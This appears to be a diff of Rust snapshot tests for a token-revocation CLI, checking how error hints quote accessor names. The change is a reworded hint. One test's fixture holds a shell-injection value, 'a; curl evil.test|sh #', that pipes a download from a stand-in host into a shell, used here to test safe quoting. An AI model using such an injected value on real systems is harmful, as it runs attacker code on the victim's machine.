@@ -45,7 +45,7 @@ fn a_name_that_a_shell_would_run_is_not_kept() {
           said       403 1 error occurred: * permission denied
           asked for  the end of the client token at http://HOST
 
-        hint: the default policy lets a token end itself: does the role set token_no_default_policy?
+        hint: the default policy lets a token end itself: see token_no_default_policy on the role
     "#]]);
 }
 
@@ -67,7 +67,7 @@ fn a_name_in_the_manifest_is_one_word() {
           said       403 1 error occurred: * permission denied
           asked for  the end of accessor a; curl evil.test|sh # at http://HOST
 
-        hint: the default policy lets a token end itself: does the role set token_no_default_policy?
         hint: an administrator ends it now: bao token revoke -accessor 'a; curl evil.test|sh #'
+        hint: the default policy lets a token end itself: see token_no_default_policy on the role
     "#]]);
 }
